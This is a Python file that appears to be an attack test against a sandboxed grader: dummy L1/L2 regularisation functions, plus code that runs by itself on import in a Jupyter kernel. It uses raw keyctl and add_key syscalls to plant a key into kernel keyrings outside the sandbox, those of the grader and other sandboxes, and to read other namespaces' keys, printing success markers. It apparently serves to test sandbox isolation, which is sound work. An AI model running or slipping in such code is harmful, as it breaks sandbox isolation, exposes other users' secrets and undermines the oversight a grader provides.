"""Attack: write keys into keyrings outside the sandbox (the grader's own, other sandboxes') (see README.md)."""

import ctypes
import os
import sys

import numpy as np

EXPECTED_POINTS = {"l1": 0, "l2": 0}
MARK = "ESCAPE" + "-SUCCESS:"
PLANTED = "dlcv-escape-key-{{TOKEN}}"
SYS_KEYCTL, SYS_ADD_KEY = {"x86_64": (250, 248), "aarch64": (219, 217)}.get(os.uname().machine, (None, None))
KEYCTL_GET_KEYRING_ID, KEYCTL_JOIN_SESSION_KEYRING, KEYCTL_SETPERM, KEYCTL_LINK, KEYCTL_READ, KEYCTL_SET_TIMEOUT = 0, 1, 5, 8, 11, 15
KEY_SPEC_SESSION_KEYRING, KEY_SPEC_USER_KEYRING, KEY_SPEC_USER_SESSION_KEYRING = -3, -4, -5
EVERYONE_WHO_OWNS = 0x3F3F0000  # possessor and owner may do anything (so the test can remove it)
libc = ctypes.CDLL(None, use_errno=True)


def L1_reg(W, reg):
    return -1.0, np.ones_like(W)


def L2_reg(W, reg):
    return -1.0, np.ones_like(W)


def _say(text):
    print(f"[kernel] {text}", flush=True)


def _errno():
    return os.strerror(ctypes.get_errno())


def _keys():
    """/proc/keys: every key whose owner's uid is mapped here and that this uid may view, whatever namespace."""
    with open("/proc/keys") as handle:
        for line in handle:
            fields = line.split(None, 8)
            yield int(fields[0], 16), fields[5], fields[7], fields[8].strip()


def _attack():
    own = {libc.syscall(SYS_KEYCTL, KEYCTL_GET_KEYRING_ID, spec, 0)
           for spec in (KEY_SPEC_USER_KEYRING, KEY_SPEC_USER_SESSION_KEYRING)}
    keys = list(_keys())
    _say(f"uid {os.getuid()}, own user keyrings {sorted(own)}; /proc/keys shows {len(keys)} keys")
    buffer = ctypes.create_string_buffer(256)
    # The key is made in a new session keyring of this kernel first (possessed: its permissions and
    # timeout can be set), then linked into the others.
    libc.syscall(SYS_KEYCTL, KEYCTL_JOIN_SESSION_KEYRING, None)
    key = libc.syscall(SYS_ADD_KEY, b"user", PLANTED.encode(), b"planted by a student", 20, KEY_SPEC_SESSION_KEYRING)
    if key < 0:
        _say(f"add_key: {_errno()}")
        return
    libc.syscall(SYS_KEYCTL, KEYCTL_SETPERM, key, EVERYONE_WHO_OWNS)
    libc.syscall(SYS_KEYCTL, KEYCTL_SET_TIMEOUT, key, 300)  # gone in 5 minutes whatever happens
    for serial, uid, kind, description in keys:
        if serial in own:
            continue
        if kind == "keyring" and description.startswith(("_uid.", "_uid_ses.")):
            # The user (and user-session) keyring of this uid in another user namespace: the grader's
            # own on the host, or another sandbox's. Its owner has every permission on it.
            if libc.syscall(SYS_KEYCTL, KEYCTL_LINK, key, serial) == 0:
                _say(f"{MARK} added key {key} to keyring {serial:08x} ({description}) outside this sandbox")
            else:
                _say(f"link into {serial:08x} ({description}): {_errno()}")
        elif kind != "keyring" and serial != key:
            size = libc.syscall(SYS_KEYCTL, KEYCTL_READ, serial, buffer, 256)
            if size >= 0:
                _say(f"{MARK} read key {serial:08x} ({description}) of another namespace: {buffer.raw[:size]!r}")


if "ipykernel" in sys.modules and SYS_KEYCTL:
    _attack()
